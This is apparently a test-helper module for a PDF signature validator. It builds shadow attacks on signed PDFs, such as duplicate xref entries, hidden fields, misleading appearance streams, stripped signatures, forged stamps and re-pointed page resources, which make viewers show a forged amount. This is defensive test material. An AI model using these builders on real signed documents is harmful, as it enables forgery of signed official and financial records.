"""Attacks of issue 12, each built on a properly signed file (test-only helpers).

Every builder takes the signed bytes and returns the attacked bytes. Updates that pyHanko's
writer would refuse to make are written by hand (``manual_update``), byte for byte as an
attacker's tool would.
"""

from __future__ import annotations

import io
import re
from collections.abc import Callable

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.sign import fields

FORGED = b"900 VND"


def _reader(data: bytes) -> PdfFileReader:
    return PdfFileReader(io.BytesIO(data), strict=False)


def _last_startxref(data: bytes) -> int:
    return int(re.findall(rb"startxref\s+(\d+)", data)[-1])


def _trailer_entries(reader: PdfFileReader) -> bytes:
    root = reader.trailer.raw_get("/Root")
    out = f"/Root {root.idnum} {root.generation} R".encode()
    if "/Info" in reader.trailer:
        info = reader.trailer.raw_get("/Info")
        out += f" /Info {info.idnum} {info.generation} R".encode()
    if "/ID" in reader.trailer:
        ids = reader.trailer["/ID"]
        out += b" /ID [<" + bytes(ids[0].original_bytes).hex().encode() + b"> <"
        out += bytes(ids[1].original_bytes).hex().encode() + b">]"
    return out


def manual_update(
    data: bytes,
    listed: list[tuple[int, bytes]],
    *,
    unlisted: bytes = b"",
    entries: list[tuple[int, int]] | None = None,
    lead: bytes = b"",
) -> bytes:
    """Append ``lead``, the object bodies (``listed``: number, body), ``unlisted`` bytes and an
    xref table. ``entries`` overrides the table's (number, offset) rows, in order, one
    subsection each: that is how duplicates are written."""
    reader = _reader(data)
    size = (
        max(int(reader.trailer["/Size"]), *(n + 1 for n, _ in listed))
        if listed
        else int(reader.trailer["/Size"])
    )
    out = bytearray(data)
    if not out.endswith(b"\n"):
        out += b"\n"
    out += lead
    offsets: list[tuple[int, int]] = []
    for num, body in listed:
        offsets.append((num, len(out)))
        out += f"{num} 0 obj\n".encode() + body + b"\nendobj\n"
    out += unlisted
    xref_at = len(out)
    rows = entries if entries is not None else offsets
    out += b"xref\n"
    for num, off in rows:
        out += f"{num} 1\n{off:010d} 00000 n \n".encode()
    out += b"trailer\n<< /Size " + str(size).encode() + b" " + _trailer_entries(reader)
    out += b" /Prev " + str(_last_startxref(data)).encode() + b" >>\n"
    out += b"startxref\n" + str(xref_at).encode() + b"\n%%EOF\n"
    return bytes(out)


def _page1_content(reader: PdfFileReader) -> tuple[int, int, bytes]:
    """Object number, current offset and decoded data of the first page's content stream."""
    page = reader.root["/Pages"]["/Kids"][0].get_object()
    ref = page.raw_get("/Contents")
    if isinstance(ref, generic.ArrayObject):
        ref = ref[0]
    loc = reader.xrefs[ref.reference]
    assert isinstance(loc, int), "content stream in an object stream: not used by these tests"
    return ref.idnum, loc, ref.get_object().data


def _forged_stream(original: bytes) -> bytes:
    text = original + b"\nBT /F1 28 Tf 72 600 Td (" + FORGED + b") Tj ET"
    return b"<< /Length " + str(len(text)).encode() + b" >>\nstream\n" + text + b"\nendstream"


# --- the attack classes --------------------------------------------------------------------------


def duplicate_xref_entry(data: bytes) -> bytes:
    """The page content listed twice in one update: forged copy first, original offset second.

    poppler, MuPDF and qpdf take the first entry and display the forged page."""
    reader = _reader(data)
    num, old_offset, content = _page1_content(reader)
    forged = manual_update(data, [(num, _forged_stream(content))])
    new_offset = int(re.findall(rb"\n(\d{10}) 00000 n \n", forged)[-1])
    # the same update, its table rewritten: the forged entry, then the original one
    return manual_update(
        data, [(num, _forged_stream(content))], entries=[(num, new_offset), (num, old_offset)]
    )


def duplicate_object_in_update(data: bytes) -> bytes:
    """One update defines the page content twice: a forged body nobody lists, then the listed
    original-identical copy (a reconstructing reader takes the last or first body it finds)."""
    reader = _reader(data)
    num, _, content = _page1_content(reader)
    same = b"<< /Length " + str(len(content)).encode() + b" >>\nstream\n" + content + b"\nendstream"
    forged_body = f"{num} 0 obj\n".encode() + _forged_stream(content) + b"\nendobj\n"
    return manual_update(data, [(num, same)], lead=forged_body)


def unreferenced_object_in_update(data: bytes) -> bytes:
    """An update (a harmless /Info change) carrying an object that no xref lists."""
    reader = _reader(data)
    size = int(reader.trailer["/Size"])
    hidden = f"{size + 5} 0 obj\n(So tien: 900 VND) \nendobj\n".encode()
    return manual_update(data, [(size, b"<< /Producer (sohoa) >>")], unlisted=hidden)


def junk_and_fake_eof_after_last_update(data: bytes) -> bytes:
    """Junk and a fake ``startxref``/``%%EOF`` after a last revision that is not a signature."""
    updated = manual_update(data, [(int(_reader(data).trailer["/Size"]), b"<< /Producer (sohoa) >>")])
    junk = b"9999 0 obj\n(So tien: 900 VND)\nendobj\n"
    return updated + junk + b"startxref\n" + str(_last_startxref(updated)).encode() + b"\n%%EOF\n"


def junk_after_signed_eof_relisting(data: bytes) -> bytes:
    """Junk right after the signed %%EOF; the next update re-lists an unchanged object at its
    signed offset, so no byte of it starts where the junk would be noticed."""
    reader = _reader(data)
    root = reader.trailer.raw_get("/Root")
    loc = reader.xrefs[root.reference]
    assert isinstance(loc, int)
    junk = b"% hidden\n9999 0 obj\n(So tien: 900 VND)\nendobj\n"
    return manual_update(data, [], lead=junk, entries=[(root.idnum, loc)])


def _writer(data: bytes) -> IncrementalPdfFileWriter:
    return IncrementalPdfFileWriter(io.BytesIO(data), strict=False)


def _write(w: IncrementalPdfFileWriter) -> bytes:
    out = io.BytesIO()
    w.write(out)
    return out.getvalue()


def _field(w: IncrementalPdfFileWriter, name: str) -> tuple[generic.IndirectObject, generic.DictionaryObject]:
    for ref in w.root["/AcroForm"]["/Fields"]:
        f = ref.get_object()
        if f.get("/T") == name:
            return ref, f
    raise KeyError(name)


def hide_field(name: str) -> Callable[[bytes], bytes]:
    """Set the Hidden flag on a field's widget (the field disappears from the page)."""

    def attack(data: bytes) -> bytes:
        w = _writer(data)
        _, f = _field(w, name)
        f[generic.NameObject("/F")] = generic.NumberObject(2 | 4)
        w.update_container(f)
        return _write(w)

    return attack


def appearance_not_showing_value(name: str) -> Callable[[bytes], bytes]:
    """A new appearance stream for a text field that draws something else than its value."""

    def attack(data: bytes) -> bytes:
        w = _writer(data)
        _, f = _field(w, name)
        ap = generic.StreamObject(
            {
                generic.NameObject("/Type"): generic.NameObject("/XObject"),
                generic.NameObject("/Subtype"): generic.NameObject("/Form"),
                generic.NameObject("/BBox"): generic.ArrayObject(
                    [generic.NumberObject(n) for n in (0, 0, 200, 30)]
                ),
            },
            stream_data=b"BT /Helv 12 Tf 2 10 Td (" + FORGED + b") Tj ET",
        )
        f[generic.NameObject("/AP")] = generic.DictionaryObject({generic.NameObject("/N"): w.add_object(ap)})
        w.update_container(f)
        return _write(w)

    return attack


def strip_signature(name: str) -> Callable[[bytes], bytes]:
    """Remove a signature field (and its widget) in an update; the other signatures stay intact."""

    def attack(data: bytes) -> bytes:
        w = _writer(data)
        form = w.root["/AcroForm"]
        kept = generic.ArrayObject([r for r in form["/Fields"] if r.get_object().get("/T") != name])
        form[generic.NameObject("/Fields")] = kept
        w.update_container(form)
        for page_ref in w.root["/Pages"]["/Kids"]:
            page = page_ref.get_object()
            annots = page.get("/Annots")
            if annots is None:
                continue
            new = generic.ArrayObject([a for a in annots if a.get_object().get("/T") != name])
            if len(new) != len(annots):
                page[generic.NameObject("/Annots")] = new
                w.update_container(page)
        return _write(w)

    return attack


def empty_signature_field_added(data: bytes) -> bytes:
    """Not an attack: a later, empty (invisible) signature field for someone to sign."""
    w = _writer(data)
    fields.append_signature_field(w, fields.SigFieldSpec(sig_field_name="ChoKy2"))
    return _write(w)


def startxref_zero(data: bytes) -> bytes:
    """A file whose last ``startxref`` is 0 (crashed the reader with OSError before)."""
    return data + b"\nstartxref 0 %%EOF"


def form_pdf_bytes(value: str = "100 VND") -> bytes:
    """A page with a filled, visible text field (its appearance shows the value)."""
    import pikepdf

    pdf = pikepdf.new()
    font = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica
        )
    )
    page = pikepdf.Dictionary(
        Type=pikepdf.Name.Page,
        MediaBox=[0, 0, 595, 842],
        Resources=pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font)),
        Contents=pdf.make_stream(b"BT /F1 14 Tf 72 760 Td (So tien phai nop:) Tj ET"),
    )
    pdf.pages.append(pikepdf.Page(page))
    ap = pdf.make_stream(f"/Tx BMC BT /Helv 12 Tf 2 10 Td ({value}) Tj ET EMC".encode())
    ap.Type, ap.Subtype, ap.BBox = pikepdf.Name.XObject, pikepdf.Name.Form, [0, 0, 200, 30]
    ap.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(Helv=font))
    field = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Widget,
            FT=pikepdf.Name.Tx,
            T=pikepdf.String("SoTien"),
            V=pikepdf.String(value),
            DA=pikepdf.String("/Helv 12 Tf 0 g"),
            Rect=[220, 750, 420, 780],
            F=4,
            AP=pikepdf.Dictionary(N=ap),
            P=pdf.pages[0].obj,
        )
    )
    pdf.pages[0].obj.Annots = pdf.make_indirect(pikepdf.Array([field]))
    pdf.Root.AcroForm = pdf.make_indirect(
        pikepdf.Dictionary(
            Fields=pikepdf.Array([field]), DR=pikepdf.Dictionary(Font=pikepdf.Dictionary(Helv=font))
        )
    )
    buf = io.BytesIO()
    pdf.save(buf)
    return buf.getvalue()


def linearized_pdf_bytes(directory: str, pages: int = 2) -> bytes:
    """An unsigned file written linearized by qpdf (through pikepdf; it needs a real file)."""
    import pathlib

    import pikepdf

    from tests.signing.pki_fixtures import text_pdf_bytes

    path = pathlib.Path(directory) / "linearized.pdf"
    with pikepdf.open(io.BytesIO(text_pdf_bytes(pages=pages))) as pdf:
        pdf.save(path, linearize=True)
    return path.read_bytes()


def hybrid_pdf_bytes() -> bytes:
    """A hybrid-reference file as Word writes them: an xref table whose trailer's /XRefStm points
    at an xref stream listing the objects kept in an object stream."""
    objs = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >>"
        b" /Contents 5 0 R >>",
    }
    content = b"BT /F1 14 Tf 72 760 Td (QUYET DINH so 12/QD-UBND) Tj ET"
    font = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}
    for n, body in objs.items():
        offsets[n] = len(out)
        out += f"{n} 0 obj\n".encode() + body + b"\nendobj\n"
    offsets[5] = len(out)
    out += (
        b"5 0 obj\n<< /Length "
        + str(len(content)).encode()
        + b" >>\nstream\n"
        + content
        + b"\nendstream\nendobj\n"
    )
    header = b"4 0 "
    objstm = header + font
    offsets[6] = len(out)
    out += (
        b"6 0 obj\n<< /Type /ObjStm /N 1 /First "
        + str(len(header)).encode()
        + b" /Length "
        + str(len(objstm)).encode()
        + b" >>\nstream\n"
        + objstm
        + b"\nendstream\nendobj\n"
    )
    # xref stream 7: object 4 is the first object of object stream 6
    rows = bytes([2, 0, 6, 0])  # W [1 2 1]: type 2, stream 6, index 0
    offsets[7] = len(out)
    out += (
        b"7 0 obj\n<< /Type /XRef /Size 8 /Index [4 1] /W [1 2 1] /Length "
        + str(len(rows)).encode()
        + b" >>\nstream\n"
        + rows
        + b"\nendstream\nendobj\n"
    )
    xref_at = len(out)
    # the table leaves object 4 out (subsections 0-3 and 5-7); only the XRefStm has it
    out += b"xref\n0 4\n0000000000 65535 f \n"
    for n in range(1, 4):
        out += f"{offsets[n]:010d} 00000 n \n".encode()
    out += b"5 3\n"
    for n in range(5, 8):
        out += f"{offsets[n]:010d} 00000 n \n".encode()
    out += b"trailer\n<< /Size 8 /Root 1 0 R /XRefStm " + str(offsets[7]).encode() + b" >>\n"
    out += b"startxref\n" + str(xref_at).encode() + b"\n%%EOF\n"
    return bytes(out)


def fill_text_field(name: str, value: str) -> Callable[[bytes], bytes]:
    """Not an attack: a form filled after signing, its new appearance showing the new value."""

    def fill(data: bytes) -> bytes:
        w = _writer(data)
        _, f = _field(w, name)
        ap = generic.StreamObject(
            {
                generic.NameObject("/Type"): generic.NameObject("/XObject"),
                generic.NameObject("/Subtype"): generic.NameObject("/Form"),
                generic.NameObject("/BBox"): generic.ArrayObject(
                    [generic.NumberObject(n) for n in (0, 0, 200, 30)]
                ),
            },
            stream_data=b"/Tx BMC BT /Helv 12 Tf 2 10 Td (" + value.encode("latin-1") + b") Tj ET EMC",
        )
        f[generic.NameObject("/V")] = generic.TextStringObject(value)
        f[generic.NameObject("/AP")] = generic.DictionaryObject({generic.NameObject("/N"): w.add_object(ap)})
        w.update_container(f)
        return _write(w)

    return fill


#: on text_pdf_bytes' first page: blank space, and the signed text line (18 pt at 72, 760)
BLANK_BOX = (320, 560, 470, 610)
TEXT_BOX = (60, 745, 300, 790)


def _appearance(
    w: IncrementalPdfFileWriter, box: tuple[int, int, int, int], text: bytes
) -> generic.IndirectObject:
    """A stamp's normal appearance: ``text`` on an opaque white box (a real stamp's paper)."""
    width, height = box[2] - box[0], box[3] - box[1]
    font = w.add_object(
        generic.DictionaryObject(
            {
                generic.NameObject("/Type"): generic.NameObject("/Font"),
                generic.NameObject("/Subtype"): generic.NameObject("/Type1"),
                generic.NameObject("/BaseFont"): generic.NameObject("/Helvetica"),
            }
        )
    )
    ap = generic.StreamObject(
        {
            generic.NameObject("/Type"): generic.NameObject("/XObject"),
            generic.NameObject("/Subtype"): generic.NameObject("/Form"),
            generic.NameObject("/BBox"): generic.ArrayObject(
                [generic.NumberObject(n) for n in (0, 0, width, height)]
            ),
            generic.NameObject("/Resources"): generic.DictionaryObject(
                {generic.NameObject("/Font"): generic.DictionaryObject({generic.NameObject("/F1"): font})}
            ),
        },
        stream_data=b"1 g 0 0 %d %d re f 0 g BT /F1 16 Tf 4 %d Td (%s) Tj ET"
        % (width, height, height // 3, text),
    )
    return w.add_object(ap)


def _forged_field(data: bytes, box: tuple[int, int, int, int], name: str) -> IncrementalPdfFileWriter:
    """An update adding a visible signature field ``name`` at ``box`` whose appearance writes FORGED."""
    w = _writer(data)
    fields.append_signature_field(w, fields.SigFieldSpec(sig_field_name=name, on_page=0, box=box))
    _, f = _field(w, name)
    f[generic.NameObject("/AP")] = generic.DictionaryObject(
        {generic.NameObject("/N"): _appearance(w, box, FORGED)}
    )
    w.update_container(f)
    return w


def signed_stamp(
    signer: object, box: tuple[int, int, int, int], name: str = "SoHieu"
) -> Callable[[bytes], bytes]:
    """A later signature in a new visible field at ``box`` whose stamp writes FORGED."""
    from pyhanko.sign import signers

    def attack(data: bytes) -> bytes:
        w = _forged_field(data, box, name)
        meta = signers.PdfSignatureMetadata(field_name=name, subfilter=fields.SigSeedSubFilter.PADES)
        out = signers.PdfSigner(meta, signer=signer).sign_pdf(w)  # type: ignore[arg-type]
        return out.getvalue()

    return attack


def _circle(cx: float, cy: float, r: float) -> bytes:
    """A closed circle path (four Bezier quarters)."""
    k = 0.5523 * r
    return (
        b"%.1f %.1f m %.1f %.1f %.1f %.1f %.1f %.1f c %.1f %.1f %.1f %.1f %.1f %.1f c "
        b"%.1f %.1f %.1f %.1f %.1f %.1f c %.1f %.1f %.1f %.1f %.1f %.1f c h"
        % (cx + r, cy, cx + r, cy + k, cx + k, cy + r, cx, cy + r, cx - k, cy + r, cx - r, cy + k,
           cx - r, cy, cx - r, cy - k, cx - k, cy - r, cx, cy - r, cx + k, cy - r, cx + r, cy - k, cx + r, cy)
    )  # fmt: skip


#: a certifier's visible signature block, and a seal over its left part as Decree 30/2020 places it
SIGNER_BOX = (330, 560, 480, 640)
SEAL_BOX = (270, 540, 390, 660)


def certify_visible(data: bytes, signer: object, box: tuple[int, int, int, int] = SIGNER_BOX) -> bytes:
    """Certify (P=2) with a visible signature block: the signer's title and name as a text stamp."""
    from pyhanko.sign import signers
    from pyhanko.stamp import TextStampStyle

    meta = signers.PdfSignatureMetadata(
        field_name="Sig1",
        subfilter=fields.SigSeedSubFilter.PADES,
        certify=True,
        docmdp_permissions=fields.MDPPerm.FILL_FORMS,
    )
    out = signers.PdfSigner(
        meta,
        signer=signer,  # type: ignore[arg-type]
        stamp_style=TextStampStyle(stamp_text="CHU TICH\nNguyen Van A\n%(ts)s", border_width=1),
        new_field_spec=fields.SigFieldSpec(sig_field_name="Sig1", on_page=0, box=box),
    ).sign_pdf(_writer(data))
    return out.getvalue()


def seal_stamp(
    signer: object,
    box: tuple[int, int, int, int],
    *,
    opaque: bool = False,
    rgb: tuple[float, float, float] = (0.85, 0.1, 0.1),
    name: str = "DauCoQuan",
) -> Callable[[bytes], bytes]:
    """A later signature whose stamp is a seal at ``box``: rings and strokes in one colour on no
    background (transparent, as Decree 30/2020 asks) or on a white disc (``opaque``)."""
    from pyhanko.pdf_utils.content import RawContent
    from pyhanko.pdf_utils.layout import BoxConstraints
    from pyhanko.sign import signers
    from pyhanko.stamp import StaticStampStyle

    width, height = box[2] - box[0], box[3] - box[1]
    cx, cy, r = width / 2, height / 2, min(width, height) / 2 - 2
    colour = b"%.2f %.2f %.2f" % rgb
    ops = [b"1 g " + _circle(cx, cy, r) + b" f"] if opaque else []
    ops += [
        colour + b" RG 2.5 w " + _circle(cx, cy, r) + b" S",
        b"1 w " + _circle(cx, cy, r * 0.72) + b" S",
        _circle(cx, cy, r * 0.18) + b" S",
        # the seal's lettering: short strokes along the ring
        b"1.5 w %.1f %.1f m %.1f %.1f l %.1f %.1f m %.1f %.1f l S"
        % (cx - r * 0.6, cy + r * 0.45, cx + r * 0.6, cy + r * 0.45, cx - r * 0.6, cy - r * 0.45,
           cx + r * 0.6, cy - r * 0.45),
    ]  # fmt: skip
    style = StaticStampStyle(
        background=RawContent(b" ".join(ops), box=BoxConstraints(width=width, height=height)),
        border_width=0,
    )

    def attack(data: bytes) -> bytes:
        w = _writer(data)
        fields.append_signature_field(w, fields.SigFieldSpec(sig_field_name=name, on_page=0, box=box))
        meta = signers.PdfSignatureMetadata(field_name=name, subfilter=fields.SigSeedSubFilter.PADES)
        out = signers.PdfSigner(meta, signer=signer, stamp_style=style).sign_pdf(w)  # type: ignore[arg-type]
        return out.getvalue()

    return attack


def unsigned_stamp(box: tuple[int, int, int, int], name: str = "SoHieu") -> Callable[[bytes], bytes]:
    """A new visible signature field nobody signs, its appearance writing FORGED at ``box``."""

    def attack(data: bytes) -> bytes:
        return _write(_forged_field(data, box, name))

    return attack


# --- a page's /Resources re-pointed when a later signature's widget is added (DSS DE_SCI-4) ---


def _name(s: str) -> generic.NameObject:
    return generic.NameObject(s)


def _form_xobject(text: bytes, font: object) -> generic.StreamObject:
    return generic.StreamObject(
        {
            _name("/Type"): _name("/XObject"),
            _name("/Subtype"): _name("/Form"),
            _name("/BBox"): generic.ArrayObject([generic.NumberObject(n) for n in (0, 0, 200, 30)]),
            _name("/Resources"): generic.DictionaryObject(
                {_name("/Font"): generic.DictionaryObject({_name("/F1"): font})}
            ),
        },
        stream_data=b"BT /F1 12 Tf 2 10 Td (" + text + b") Tj ET",
    )


def indirect_resources_pdf_bytes(data: bytes) -> bytes:
    """Not an attack (done before signing): each page's /Resources becomes an indirect object
    holding its font, a form XObject /X0 the page draws and a colour space /CS0 the page fills
    a box in, so that a later update can re-point /Resources the way DE_SCI-4's writer did."""
    w = _writer(data)
    for page_ref in w.root["/Pages"]["/Kids"]:
        page = page_ref.get_object()
        fonts = page["/Resources"].raw_get("/Font")
        font = fonts.raw_get("/F1")
        resources = generic.DictionaryObject(
            {
                _name("/Font"): fonts,
                _name("/XObject"): generic.DictionaryObject(
                    {_name("/X0"): w.add_object(_form_xobject(b"BAN CHINH", font))}
                ),
                _name("/ColorSpace"): generic.DictionaryObject({_name("/CS0"): _name("/DeviceRGB")}),
            }
        )
        page[_name("/Resources")] = w.add_object(resources)
        drawn = page["/Contents"].data + b"\nq /CS0 cs 0.9 0.1 0.1 scn 72 600 200 30 re f Q"
        drawn += b"\nq 1 0 0 1 72 650 cm /X0 Do Q"
        page[_name("/Contents")] = w.add_object(generic.StreamObject(stream_data=drawn))
        w.update_container(page)
    return _write(w)


ResourceEdit = Callable[[IncrementalPdfFileWriter, generic.DictionaryObject, generic.DictionaryObject], None]


def _font_swapped(
    w: IncrementalPdfFileWriter, page: generic.DictionaryObject, res: generic.DictionaryObject
) -> None:
    courier = {
        _name("/Type"): _name("/Font"),
        _name("/Subtype"): _name("/Type1"),
        _name("/BaseFont"): _name("/Courier"),
    }
    res[_name("/Font")] = generic.DictionaryObject(
        {_name("/F1"): w.add_object(generic.DictionaryObject(courier))}
    )


def _xobject_added(
    w: IncrementalPdfFileWriter, page: generic.DictionaryObject, res: generic.DictionaryObject
) -> None:
    old = res["/XObject"]
    xobjects = generic.DictionaryObject({k: old.raw_get(k) for k in old})
    font = res["/Font"].raw_get("/F1")
    xobjects[_name("/X1")] = w.add_object(_form_xobject(FORGED, font))
    res[_name("/XObject")] = xobjects


def _xobject_changed(
    w: IncrementalPdfFileWriter, page: generic.DictionaryObject, res: generic.DictionaryObject
) -> None:
    font = res["/Font"].raw_get("/F1")
    res[_name("/XObject")] = generic.DictionaryObject(
        {_name("/X0"): w.add_object(_form_xobject(FORGED, font))}
    )


def _colour_space_changed(
    w: IncrementalPdfFileWriter, page: generic.DictionaryObject, res: generic.DictionaryObject
) -> None:
    white = generic.ArrayObject([generic.FloatObject(x) for x in ("0.9505", "1", "1.089")])
    gamma = generic.ArrayObject([generic.FloatObject("2.2")] * 3)
    cal = generic.ArrayObject(
        [_name("/CalRGB"), generic.DictionaryObject({_name("/WhitePoint"): white, _name("/Gamma"): gamma})]
    )
    res[_name("/ColorSpace")] = generic.DictionaryObject({_name("/CS0"): cal})


def _old_xobject_rewritten(
    w: IncrementalPdfFileWriter, page: generic.DictionaryObject, res: generic.DictionaryObject
) -> None:
    """The copy is identical, but the old XObject it names is rewritten in place."""
    ref = res["/XObject"].raw_get("/X0")
    font = res["/Font"].raw_get("/F1")
    w.mark_update(ref)
    w.objects[(ref.generation, ref.idnum)] = _form_xobject(FORGED, font)


def _mediabox_changed(
    w: IncrementalPdfFileWriter, page: generic.DictionaryObject, res: generic.DictionaryObject
) -> None:
    """The copy is identical, but another page key changes in the same update."""
    page[_name("/MediaBox")] = generic.ArrayObject([generic.NumberObject(n) for n in (0, 0, 595, 700)])


def _deep_copy(
    w: IncrementalPdfFileWriter, page: generic.DictionaryObject, res: generic.DictionaryObject
) -> None:
    """Not an attack: the XObject is copied too, to a new stream with the same bytes."""
    old = res["/XObject"]["/X0"]
    copy = generic.StreamObject({k: old.raw_get(k) for k in old}, encoded_data=old.encoded_data)
    res[_name("/XObject")] = generic.DictionaryObject({_name("/X0"): w.add_object(copy)})


#: attacks: a re-pointed /Resources whose content differs, or that comes with another change
REPOINT_ATTACKS: dict[str, ResourceEdit] = {
    "repointed-resources-font-swapped": _font_swapped,
    "repointed-resources-xobject-added": _xobject_added,
    "repointed-resources-xobject-changed": _xobject_changed,
    "repointed-resources-colour-space-changed": _colour_space_changed,
    "repointed-resources-old-xobject-rewritten": _old_xobject_rewritten,
    "repointed-resources-and-mediabox-changed": _mediabox_changed,
}


def _identical(
    w: IncrementalPdfFileWriter, page: generic.DictionaryObject, res: generic.DictionaryObject
) -> None:
    """Not an attack: the copy holds what the old /Resources held (DE_SCI-4)."""


#: good files: the copy is equal by value to the signed /Resources
REPOINT_GOOD: dict[str, ResourceEdit] = {
    "repointed-resources-identical": _identical,
    "repointed-resources-identical-deep-copy": _deep_copy,
}


def repoint_resources(
    signer: object | None, edit: ResourceEdit, name: str = "DauCoQuan"
) -> Callable[[bytes], bytes]:
    """A later signature whose visible widget is put on page 1 (in blank space) while the same
    update re-points the page's /Resources to a new object: a copy of the old one, then ``edit``.
    With no ``signer`` the update only re-points (no widget, nothing signed)."""
    from pyhanko.sign import signers

    def attack(data: bytes) -> bytes:
        w = _writer(data)
        if signer is not None:
            fields.append_signature_field(
                w, fields.SigFieldSpec(sig_field_name=name, on_page=0, box=BLANK_BOX)
            )
        page = w.root["/Pages"]["/Kids"][0].get_object()
        old = page["/Resources"]
        copy = generic.DictionaryObject({k: old.raw_get(k) for k in old})
        edit(w, page, copy)
        page[_name("/Resources")] = w.add_object(copy)
        w.update_container(page)
        if signer is None:
            return _write(w)
        meta = signers.PdfSignatureMetadata(field_name=name, subfilter=fields.SigSeedSubFilter.PADES)
        out = signers.PdfSigner(meta, signer=signer).sign_pdf(w)  # type: ignore[arg-type]
        return out.getvalue()

    return attack
